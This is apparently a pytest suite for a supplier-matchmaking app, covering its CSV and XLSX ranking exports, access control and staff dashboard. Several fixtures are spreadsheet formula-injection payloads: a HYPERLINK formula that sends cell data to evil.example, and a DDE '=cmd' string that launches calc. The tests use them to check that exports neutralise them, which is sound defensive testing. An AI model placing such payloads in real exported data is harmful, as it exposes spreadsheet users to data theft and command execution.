"""Reports: exports of rankings and suppliers (CSV, XLSX), and the staff dashboard."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from matchmaker.extensions import db
from matchmaker.models import Decision, MatchResult, MatchRun, Role, Supplier
from matchmaker.reports import dashboard as reports_dashboard
from matchmaker.reports import spreadsheets
from matchmaker.shortlists import services as shortlists
from matchmaker.shortlists.cache import index_cache
from tests import factories
from tests.conftest import make_app

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click for prices")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads the Cyrillic right"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(body: bytes) -> tuple[object, list[dict[str, object]]]:
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    return sheet, [dict(zip(header, row, strict=True)) for row in rows[1:]]


# --- a ranking built by the engine, for the exports ---------------------------------------


def _export_scene(app):
    """A Brose need for a stamped bracket: a certified stamper, a stamper with a formula
    for a name, one without the certificate (a near miss), and a bakery; decisions on
    three of them. A second need on the same day, and another buyer with its own day."""
    valid = dt.date.today() + dt.timedelta(days=400)
    with app.app_context():
        session = db.session
        brose = factories.buyer(session, "Brose")
        other = factories.buyer(session, "Mitsuba")
        day = factories.day(session, brose, title="Brose Supplier Day 2027")
        need = factories.need(
            session,
            day,
            part_name="Кронштейн крепления мотор-редуктора",
            part_number="BR-1001",
            description="Листовая штамповка из стали 08пс, последовательный штамп.",
            process_codes=("sheet_stamping",),
            material_codes=("steel_lowcarbon",),
            required_certifications=["IATF 16949"],
        )
        second = factories.need(
            session,
            day,
            part_name="Кронштейн жгута проводов",
            part_number="BR-1002",
            description="Штамповка кронштейнов из стали.",
            process_codes=("sheet_stamping",),
        )
        stamper = factories.supplier(
            session,
            name="ООО «Штамп-Авто»",
            description="Холодная листовая штамповка кронштейнов из стали 08пс для АвтоВАЗ.",
            process_codes=("sheet_stamping",),
            material_codes=("steel_lowcarbon",),
            certifications=[("IATF 16949", valid)],
        )
        evil = factories.supplier(
            session,
            name=EVIL,
            description="Листовая штамповка кронштейнов из стали 08пс, прессы до 400 т.",
            process_codes=("sheet_stamping",),
            material_codes=("steel_lowcarbon",),
            certifications=[("IATF 16949", valid)],
        )
        uncertified = factories.supplier(
            session,
            name="ООО «Штамп без сертификата»",
            status="pending",
            description="Листовая штамповка кронштейнов из стали, прессы до 250 т.",
            process_codes=("sheet_stamping",),
            material_codes=("steel_lowcarbon",),
        )
        factories.supplier(session, name="ООО «Пекарня»", description="Хлеб и булочки.")
        other_day = factories.day(session, other, title="Mitsuba Supplier Day")
        other_need = factories.need(session, other_day, process_codes=("sheet_stamping",))
        buyer_user = factories.user(session, Role.BUYER, buyer_org=brose)
        other_buyer = factories.user(session, Role.BUYER, buyer_org=other)
        decided = dt.datetime(2027, 2, 1, 9, 30, tzinfo=dt.UTC)
        session.add_all(
            [
                Decision(
                    need=need,
                    supplier_id=stamper.id,
                    status="nominated",
                    note="Аудит пройден",
                    updated_at=decided,
                ),
                Decision(need=need, supplier_id=evil.id, status="meeting", note="-1+1"),
                Decision(
                    need=need,
                    supplier_id=uncertified.id,
                    status="rejected",
                    reason="Нет IATF 16949",
                ),
            ]
        )
        session.commit()
        return {
            "day": day.id,
            "need": need.id,
            "second": second.id,
            "other_day": other_day.id,
            "other_need": other_need.id,
            "stamper": stamper.id,
            "evil": evil.id,
            "uncertified": uncertified.id,
            "buyer": buyer_user,
            "other_buyer": other_buyer,
        }


def test_buyer_exports_a_needs_ranking_with_decisions_as_csv(app, client, login_as):
    scene = _export_scene(app)
    login_as(user=scene["buyer"])
    response = client.get(f"/needs/{scene['need']}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "br-1001" in disposition and dt.date.today().isoformat() in disposition
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = read_csv(response.data)
    assert list(rows[0]) == [
        "Rank",
        "Supplier",
        "INN",
        "Region",
        "Score",
        "List",
        "Lacks",
        "Verified",
        "Interested",
        "Decision",
        "Reason",
        "Note",
        "Decided at",
    ]
    by_name = {row["Supplier"]: row for row in rows}
    stamper = by_name["ООО «Штамп-Авто»"]
    assert stamper["List"] == "ranked" and stamper["Rank"] in {"1", "2"}
    assert stamper["Decision"] == "nominated" and stamper["Note"] == "Аудит пройден"
    assert stamper["Verified"] == "yes" and stamper["Interested"] == "no"
    assert stamper["Decided at"] == "2027-02-01 13:30"  # Samara time, UTC+4
    assert 0 < float(stamper["Score"]) <= 1
    near = by_name["ООО «Штамп без сертификата»"]
    assert near["List"] == "near miss" and near["Rank"] == ""
    assert "IATF 16949" in near["Lacks"]
    assert near["Decision"] == "rejected" and near["Reason"] == "Нет IATF 16949"
    assert near["Verified"] == "no"
    assert "ООО «Пекарня»" not in by_name
    # Text a spreadsheet would run as a formula is neutralised.
    assert by_name["'" + EVIL]["Note"] == "'-1+1"
    assert EVIL not in by_name
    # The file says what the page says: the same stored ranking, in the same order.
    with app.app_context():
        run = db.session.scalar(select(MatchRun).where(MatchRun.need_id == scene["need"]))
        ranked = [m.supplier.name for m in run.matches if not m.near_miss]
    exported = [r["Supplier"].removeprefix("'") for r in rows if r["List"] == "ranked"]
    assert exported == ranked


def test_need_export_as_xlsx_opens_in_openpyxl(app, client, login_as):
    scene = _export_scene(app)
    login_as(Role.STAFF)
    response = client.get(f"/needs/{scene['need']}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"].startswith("attachment;")
    sheet, rows = read_xlsx(response.data)
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    assert sheet.auto_filter.ref.startswith("A1:M")
    evil = next(r for r in rows if str(r["Supplier"]).endswith(EVIL))
    assert evil["Supplier"] == "'" + EVIL
    evil_cell = next(c for c in sheet["B"] if c.value == "'" + EVIL)
    assert evil_cell.data_type == "s"  # a string, never a formula
    stamper = next(r for r in rows if r["Supplier"] == "ООО «Штамп-Авто»")
    assert isinstance(stamper["Score"], float) and isinstance(stamper["Rank"], int)
    assert stamper["Decided at"] == dt.datetime(2027, 2, 1, 13, 30)


def test_day_export_lists_every_need_with_its_ranking(app, client, login_as):
    scene = _export_scene(app)
    login_as(user=scene["buyer"])
    response = client.get(f"/days/{scene['day']}/export.csv")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert "brose-supplier-day-2027" in disposition and "exported" in disposition
    rows = read_csv(response.data)
    assert list(rows[0])[:4] == ["Need", "Part number", "Rank", "Supplier"]
    assert {r["Part number"] for r in rows} == {"BR-1001", "BR-1002"}
    first = [r for r in rows if r["Part number"] == "BR-1001"]
    assert first[0]["Need"] == "Кронштейн крепления мотор-редуктора"
    assert {r["Decision"] for r in first} >= {"nominated", "meeting", "rejected"}
    # Every need was ranked on the way, as its shortlist page would have done.
    with app.app_context():
        assert db.session.scalar(select(func.count(MatchRun.id))) == 2

    xlsx = client.get(f"/days/{scene['day']}/export.xlsx")
    workbook = load_workbook(io.BytesIO(xlsx.data))
    assert len(workbook.sheetnames) == 1
    _sheet, xrows = read_xlsx(xlsx.data)
    assert len(xrows) == len(rows)
    assert [r["Supplier"] for r in xrows] == [r["Supplier"] for r in rows]


def test_day_export_recomputes_a_stale_ranking(app, client, login_as):
    scene = _export_scene(app)
    login_as(user=scene["buyer"])
    client.get(f"/days/{scene['day']}/export.csv")
    with app.app_context():
        before = set(db.session.scalars(select(MatchRun.catalogue_version)))
        supplier = db.session.get(Supplier, scene["stamper"])
        supplier.description = "Только токарная обработка валов."
        supplier.updated_at = dt.datetime.now(dt.UTC)
        db.session.commit()
    client.get(f"/days/{scene['day']}/export.csv")
    with app.app_context():
        after = set(db.session.scalars(select(MatchRun.catalogue_version)))
    assert len(after) == 1 and after != before


def test_exports_answer_404_for_another_buyers_needs_and_403_for_suppliers(app, client, login_as):
    scene = _export_scene(app)
    login_as(user=scene["other_buyer"])
    for url in (
        f"/needs/{scene['need']}/export.csv",
        f"/needs/{scene['need']}/export.xlsx",
        f"/days/{scene['day']}/export.csv",
        f"/days/{scene['day']}/export.xlsx",
        "/needs/999999/export.csv",
        "/days/999999/export.xlsx",
    ):
        assert client.get(url).status_code == 404, url
    assert client.get(f"/days/{scene['other_day']}/export.csv").status_code == 200
    assert client.get("/suppliers/export.csv").status_code == 403
    assert client.get(f"/days/{scene['day']}/export.pdf").status_code == 404
    login_as(Role.SUPPLIER)
    assert client.get(f"/needs/{scene['need']}/export.csv").status_code == 403
    assert client.get(f"/days/{scene['day']}/export.xlsx").status_code == 403


def test_staff_exports_the_supplier_list(app, client, login_as):
    scene = _export_scene(app)
    with app.app_context():
        stamper = db.session.get(Supplier, scene["stamper"])
        stamper.email = "+7 846 000-00-00"  # a phone typed into the e-mail column
        stamper.website = "https://stamp-avto.example"
        stamper.employees = 120
        stamper.certifications[0].number = "RU-0042"
        stamper.certifications[0].verified = True
        db.session.commit()
    login_as(Role.STAFF)
    response = client.get("/suppliers/export.csv")
    assert response.status_code == 200
    assert re.search(r"suppliers-\d{4}-\d{2}-\d{2}\.csv", response.headers["Content-Disposition"])
    rows = read_csv(response.data)
    assert list(rows[0]) == [
        "Company",
        "INN",
        "Region",
        "City",
        "E-mail",
        "Website",
        "Employees",
        "Status",
        "Processes",
        "Materials",
        "Certifications",
        "Registered",
    ]
    by_name = {row["Company"]: row for row in rows}
    assert "'" + EVIL in by_name and EVIL not in by_name
    row = by_name["ООО «Штамп-Авто»"]
    assert row["E-mail"] == "'+7 846 000-00-00"
    assert row["Employees"] == "120" and row["Status"] == "verified"
    assert row["Processes"] == "Sheet metal stamping"
    assert "low-carbon" in row["Materials"].lower()
    valid = (dt.date.today() + dt.timedelta(days=400)).isoformat()
    assert row["Certifications"] == f"IATF 16949, № RU-0042, valid until {valid}, verified"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", row["Registered"])
    assert by_name["ООО «Штамп без сертификата»"]["Status"] == "pending verification"

    pending = read_csv(client.get("/suppliers/export.csv?status=pending").data)
    assert {r["Company"] for r in pending} == {"ООО «Штамп без сертификата»"}

    xlsx = client.get("/suppliers/export.xlsx?q=штамп")
    assert xlsx.mimetype == XLSX
    sheet, xrows = read_xlsx(xlsx.data)
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert {r["Company"] for r in xrows} == {"ООО «Штамп-Авто»", "ООО «Штамп без сертификата»"}
    assert isinstance(xrows[0]["Registered"], dt.datetime)


def test_export_buttons_on_the_pages(app, client, login_as):
    scene = _export_scene(app)
    login_as(user=scene["buyer"])
    shortlist = client.get(f"/needs/{scene['need']}").get_data(as_text=True)
    assert f"/needs/{scene['need']}/export.xlsx" in shortlist
    assert f"/needs/{scene['need']}/export.csv" in shortlist
    day = client.get(f"/days/{scene['day']}").get_data(as_text=True)
    assert f"/days/{scene['day']}/export.xlsx" in day
    login_as(Role.STAFF)
    suppliers = client.get("/suppliers?status=pending").get_data(as_text=True)
    assert "/suppliers/export.xlsx?status=pending" in suppliers
    assert f"/days/{scene['day']}/export.csv" in client.get(f"/days/{scene['day']}").get_data(
        as_text=True
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+79270000000", "'+79270000000"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("a=b", "a=b"),
        (-5, -5),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert spreadsheets.neutralise(value) == written


def test_neutralised_in_both_formats():
    sheet = spreadsheets.Sheet(
        title="x/y:[z]", columns=["=name", "n"], rows=[["=cmd|' /C calc'!A0", -3], ["@x", 2.5]]
    )
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(sheet).decode("utf-8-sig"))))
    assert rows == [["'=name", "n"], ["'=cmd|' /C calc'!A0", "-3"], ["'@x", "2.5"]]
    workbook = load_workbook(io.BytesIO(spreadsheets.to_xlsx(sheet)))
    worksheet = workbook.active
    assert worksheet.title == "x y  z"
    values = [[c.value for c in row] for row in worksheet.iter_rows()]
    assert values == [["'=name", "n"], ["'=cmd|' /C calc'!A0", -3], ["'@x", 2.5]]
    assert all(c.data_type != "f" for row in worksheet.iter_rows() for c in row)


def test_file_names():
    name = spreadsheets.file_name("ranking", "Кронштейн / «задний»", "PN 1", extension="csv")
    assert name == "ranking-кронштейн-задний-pn-1.csv"
    assert spreadsheets.file_name("", "//", extension="xlsx") == "export.xlsx"


# --- the dashboard, on rankings stored by hand --------------------------------------------

UTC = dt.UTC


def _result(supplier: Supplier, position: int, rank: int, score: float, near: bool = False):
    requirements = [{"kind": "certification", "label": "IATF 16949", "met": not near}]
    return MatchResult(
        supplier_id=supplier.id,
        position=position,
        rank=rank,
        score=score,
        near_miss=near,
        explanation={"terms": [], "concepts": [], "requirements": requirements},
    )


def _dashboard_scene(app):
    """Two Brose needs ranked by hand (one covered, one a gap), a Mitsuba need never
    ranked, a Schaeffler day with no needs, and four suppliers in all three states.

    need 1: S1 0.90 ranked, S2 0.45 ranked (below 0.5), S3 0.95 near miss → 1 qualified
    need 2: S2 0.30 ranked, S4 0.99 ranked but rejected since, S3 0.80 near miss → a gap
    decisions: need 1 S1 nominated, S2 meeting, S3 rejected; need 2 S2 shortlisted
    """
    with app.app_context():
        session = db.session
        brose = factories.buyer(session, "Brose")
        mitsuba = factories.buyer(session, "Mitsuba")
        schaeffler = factories.buyer(session, "Schaeffler")
        day = factories.day(session, brose, title="Brose day", date=dt.date(2027, 3, 16))
        covered = factories.need(session, day, part_name="Кронштейн", part_number="BR-1")
        gap = factories.need(session, day, part_name="Магниевый корпус", part_number="BR-2")
        later = factories.day(session, mitsuba, title="Mitsuba day", date=dt.date(2027, 4, 14))
        never = factories.need(
            session,
            later,
            part_name="Кронштейн штампованный",
            process_codes=("sheet_stamping",),
        )
        empty = factories.day(session, schaeffler, title="Schaeffler day")
        s1 = factories.supplier(session, name="S1", created_at=dt.datetime(2026, 1, 5, tzinfo=UTC))
        s2 = factories.supplier(session, name="S2", created_at=dt.datetime(2026, 1, 20, tzinfo=UTC))
        s3 = factories.supplier(
            session, name="S3", status="pending", created_at=dt.datetime(2026, 3, 2, tzinfo=UTC)
        )
        s4 = factories.supplier(
            session, name="S4", status="rejected", created_at=dt.datetime(2026, 3, 3, tzinfo=UTC)
        )
        session.flush()
        version = shortlists.catalogue_version(session)
        now = dt.datetime.now(UTC) + dt.timedelta(minutes=1)
        session.add(
            MatchRun(
                need=covered,
                catalogue_version=version,
                computed_at=now,
                on_date=day.date,
                matches=[
                    _result(s1, 1, 1, 0.9),
                    _result(s2, 2, 2, 0.45),
                    _result(s3, 3, 1, 0.95, near=True),
                ],
            )
        )
        session.add(
            MatchRun(
                need=gap,
                catalogue_version=version,
                computed_at=now,
                on_date=day.date,
                matches=[
                    _result(s4, 1, 1, 0.99),
                    _result(s2, 2, 2, 0.3),
                    _result(s3, 3, 1, 0.8, near=True),
                ],
            )
        )
        session.add_all(
            [
                Decision(need=covered, supplier_id=s1.id, status="nominated"),
                Decision(need=covered, supplier_id=s2.id, status="meeting"),
                Decision(need=covered, supplier_id=s3.id, status="rejected", reason="Нет IATF"),
                Decision(need=gap, supplier_id=s2.id, status="shortlisted"),
            ]
        )
        staff = factories.user(session, Role.STAFF)
        session.commit()
        return {
            "day": day.id,
            "later": later.id,
            "empty": empty.id,
            "covered": covered.id,
            "gap": gap.id,
            "never": never.id,
            "brose": brose.id,
            "staff": staff,
        }


def _build(app, scene, **kwargs):
    with app.app_context():
        actor = db.session.merge(scene["staff"])
        return reports_dashboard.build(
            db.session(), index_cache(), actor, zone=ZoneInfo("Europe/Samara"), **kwargs
        )


def test_dashboard_numbers_on_a_small_scenario(app):
    scene = _dashboard_scene(app)
    board = _build(app, scene, today=dt.date(2026, 12, 2))
    days = {d.key: d for d in board.days}
    brose = days[scene["day"]]
    assert (brose.needs, brose.covered, brose.gaps, brose.unranked) == (2, 1, 1, 0)
    assert brose.percent == 50.0
    assert brose.qualified == 1
    needs = {n.need_id: n for n in board.needs[scene["day"]]}
    covered, gap = needs[scene["covered"]], needs[scene["gap"]]
    assert (covered.qualified, covered.ranked, covered.near_misses) == (1, 2, 1)
    assert covered.best_score == pytest.approx(0.9)
    assert covered.covered and not covered.gap
    # S4 scores 0.99 but its profile was rejected since: it does not cover the need.
    assert (gap.qualified, gap.ranked, gap.near_misses) == (0, 2, 1)
    assert gap.gap
    brose_gaps = [[n.need_id for n in ns] for d, ns in board.gaps if d.key == scene["day"]]
    assert brose_gaps == [[scene["gap"]]]
    # The need never ranked was ranked on the way; the day without needs is listed.
    assert board.ranked_now == 1
    assert days[scene["later"]].unranked == 0 and days[scene["later"]].needs == 1
    assert days[scene["empty"]].needs == 0 and days[scene["empty"]].percent is None
    assert board.stale == 0
    # The funnel counts pairs that reached each stage; rejected ones aside.
    funnel = brose.funnel
    assert funnel.stages() == [
        ("ranked", 4),
        ("shortlisted", 3),
        ("meeting", 2),
        ("rfq", 1),
        ("nominated", 1),
    ]
    assert funnel.rejected == 1
    assert board.total.funnel.shortlisted == 3 and board.total.funnel.rejected == 1
    buyers = {b.label: b for b in board.buyers}
    assert (buyers["Brose"].needs, buyers["Brose"].covered, buyers["Brose"].gaps) == (2, 1, 1)
    assert "Schaeffler" not in buyers  # a buyer without needs has nothing to cover
    assert board.profiles == {"pending": 1, "verified": 2, "rejected": 1}
    # Registrations per month from the first one (January 2026) to today.
    months = [(p.start, p.count, p.total) for p in board.registrations]
    assert months[0] == (dt.date(2026, 1, 1), 2, 2)
    assert months[1] == (dt.date(2026, 2, 1), 0, 2)
    assert months[2] == (dt.date(2026, 3, 1), 2, 4)
    assert months[-1][0] == dt.date(2026, 12, 1) and len(months) == 12
    assert {p.unit for p in board.registrations} == {"month"}


def test_qualified_score_is_configurable(app, tmp_path: Path, monkeypatch):
    scene = _dashboard_scene(app)
    lower = _build(app, scene, qualified_score=0.4)
    needs = {n.need_id: n for n in lower.needs[scene["day"]]}
    assert needs[scene["covered"]].qualified == 2
    assert needs[scene["gap"]].gap  # 0.30 is still too weak; S4 is still rejected
    higher = _build(app, scene, qualified_score=0.95)
    assert {n.need_id for _d, ns in higher.gaps for n in ns} >= {scene["covered"], scene["gap"]}

    monkeypatch.setenv("MATCHMAKER_QUALIFIED_SCORE", "0.35")
    configured, drop = make_app(tmp_path / "env")
    try:
        assert configured.config["QUALIFIED_SCORE"] == 0.35
    finally:
        drop()


def test_registrations_per_week_while_recent():
    zone = ZoneInfo("Europe/Samara")
    created = [
        dt.datetime(2026, 11, 2, 21, 0, tzinfo=UTC),  # Tuesday 3 Nov, 01:00 in Samara
        dt.datetime(2026, 11, 4, 8, 0, tzinfo=UTC),
        dt.datetime(2026, 11, 20, 8, 0, tzinfo=UTC),
    ]
    periods = reports_dashboard.registrations(created, zone, today=dt.date(2026, 12, 2))
    assert {p.unit for p in periods} == {"week"}
    assert [(p.start, p.count, p.total) for p in periods] == [
        (dt.date(2026, 11, 2), 2, 2),
        (dt.date(2026, 11, 9), 0, 2),
        (dt.date(2026, 11, 16), 1, 3),
        (dt.date(2026, 11, 23), 0, 3),
        (dt.date(2026, 11, 30), 0, 3),
    ]
    assert reports_dashboard.registrations([], zone, today=dt.date(2026, 12, 2)) == []
    old = [dt.datetime(2019, 5, 1, tzinfo=UTC), dt.datetime(2026, 1, 1, 12, tzinfo=UTC)]
    months = reports_dashboard.registrations(old, zone, today=dt.date(2026, 12, 2))
    assert len(months) == reports_dashboard.MAX_MONTHS
    assert months[0].total == 1  # the 2019 registration folds into the running total
    assert months[-1].total == 2


def test_dashboard_page_shows_coverage_gaps_and_chart_data(app, client, login_as):
    scene = _dashboard_scene(app)
    login_as(user=scene["staff"])
    response = client.get("/reports")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "Coverage by Supplier Day" in body and "Decision funnel" in body
    assert "at least 0.50" in body
    gaps = body.split('id="gaps"')[1].split("</section>")[0]
    assert "Магниевый корпус" in gaps and f"/needs/{scene['gap']}" in gaps
    assert "Кронштейн</a>" not in gaps
    assert 'data-chart="coverage-days"' in body and "<canvas" in body
    assert "vendor/chartjs/chart.umd.min.js" in body and "reports.js" in body
    assert " style=" not in body and "<script>" not in body  # nothing inline: strict CSP
    data = json.loads(body.split('id="report-charts">')[1].split("</script>")[0])
    coverage = data["coverage-days"]
    brose = coverage["labels"].index("Brose · 16 Mar 2027")
    assert coverage["datasets"][0]["data"][brose] == 1  # covered
    assert coverage["datasets"][1]["data"][brose] == 1  # gaps
    # Ranked pairs include whatever the engine found for the Mitsuba need; the rest is known.
    assert data["funnel"]["datasets"][0]["data"][1:] == [3, 2, 1, 1, 1]
    profiles = data["profiles"]["datasets"][0]
    assert dict(zip(profiles["keys"], profiles["data"], strict=True)) == {
        "pending": 1,
        "verified": 2,
        "rejected": 1,
    }
    staff_home = client.get("/staff/").get_data(as_text=True)
    assert "/reports" in staff_home


def test_dashboard_csv_has_the_same_numbers(app, client, login_as):
    scene = _dashboard_scene(app)
    login_as(user=scene["staff"])
    response = client.get("/reports/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = read_csv(response.data)
    assert list(rows[0]) == ["Section", "Supplier Day", "Buyer", "Subject", "Measure", "Value"]

    def value(section, measure, **where):
        found = [
            r
            for r in rows
            if r["Section"] == section
            and r["Measure"] == measure
            and all(r[k] == v for k, v in where.items())
        ]
        assert len(found) == 1, (section, measure, where, found)
        return found[0]["Value"]

    day = "Brose day (2027-03-16)"
    assert value("Coverage by Supplier Day", "covered", **{"Supplier Day": day}) == "1"
    assert value("Coverage by Supplier Day", "gaps", **{"Supplier Day": day}) == "1"
    assert value("Coverage by Supplier Day", "coverage %", **{"Supplier Day": day}) == "50"
    assert value("Coverage by buyer", "needs", Buyer="Brose") == "2"
    assert value("Localization gaps", "near misses", Subject="Магниевый корпус [BR-2]") == "1"
    assert value("Qualified suppliers per need", "qualified", Subject="Кронштейн [BR-1]") == "1"
    assert value("Qualified suppliers per need", "best score", Subject="Кронштейн [BR-1]") == "0.9"
    assert value("Funnel by Supplier Day", "shortlisted", **{"Supplier Day": day}) == "3"
    assert value("Funnel by Supplier Day", "RFQ sent", **{"Supplier Day": day}) == "1"
    assert value("Funnel by Supplier Day", "rejected", **{"Supplier Day": day}) == "1"
    assert value("Supplier profiles", "suppliers", Subject="pending verification") == "1"
    assert value("Supplier profiles", "suppliers", Subject="verified") == "2"
    months = [r for r in rows if r["Section"] == "Registrations per month"]
    assert {"Subject": "2026-01", "Measure": "registered", "Value": "2"}.items() <= months[
        0
    ].items()


def test_stale_rankings_are_counted_and_refreshed_on_request(app, client, login_as):
    scene = _dashboard_scene(app)
    login_as(user=scene["staff"])
    client.get("/reports")  # ranks the need never ranked
    with app.app_context():
        supplier = db.session.scalar(select(Supplier).where(Supplier.name == "S1"))
        supplier.description = "Штамповка кронштейнов"
        supplier.updated_at = dt.datetime.now(UTC) + dt.timedelta(minutes=5)
        db.session.commit()
    body = client.get("/reports").get_data(as_text=True)
    assert "3 rankings are older than the latest profile or need changes" in body
    response = client.post("/reports/refresh")
    assert response.status_code == 302 and response.headers["Location"].endswith("/reports")
    page = client.get("/reports").get_data(as_text=True)
    assert "Rankings recomputed for 3 needs." in page
    assert "rankings are older" not in page
    with app.app_context():
        triggers = set(db.session.scalars(select(MatchRun.trigger)))
        assert "staff" in triggers


def test_dashboard_is_for_staff_only(app, client, login_as):
    _dashboard_scene(app)
    login_as(Role.BUYER)
    assert client.get("/reports").status_code == 403
    assert client.get("/reports/export.csv").status_code == 403
    assert client.post("/reports/refresh").status_code == 403


def test_dashboard_with_an_empty_database(app, client, login_as):
    login_as(Role.STAFF)
    response = client.get("/reports")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "No Supplier Days yet." in body
    rows = read_csv(client.get("/reports/export.csv").data)
    assert {r["Section"] for r in rows} >= {"Coverage, all days", "Supplier profiles"}


def test_a_need_no_supplier_could_ever_fit_is_a_gap(app, client, login_as):
    with app.app_context():
        need = factories.need(db.session, part_name="Титановая лопатка турбины")
        need_id, day_id = need.id, need.supplier_day_id
        db.session.commit()
    login_as(Role.STAFF)
    body = client.get("/reports").get_data(as_text=True)
    gaps = body.split('id="gaps"')[1].split("</section>")[0]
    assert "Титановая лопатка турбины" in gaps and f"/needs/{need_id}" in gaps
    sheet, rows = read_xlsx(client.get(f"/days/{day_id}/export.xlsx").data)
    assert rows == [] and sheet["A1"].value == "Need"


@pytest.mark.parametrize("app_config", [{"QUALIFIED_SCORE": "high"}])
def test_a_bad_qualified_score_setting_falls_back_to_the_default(app, client, login_as):
    login_as(Role.STAFF)
    response = client.get("/reports")
    assert response.status_code == 200
    assert "at least 0.50" in response.get_data(as_text=True)
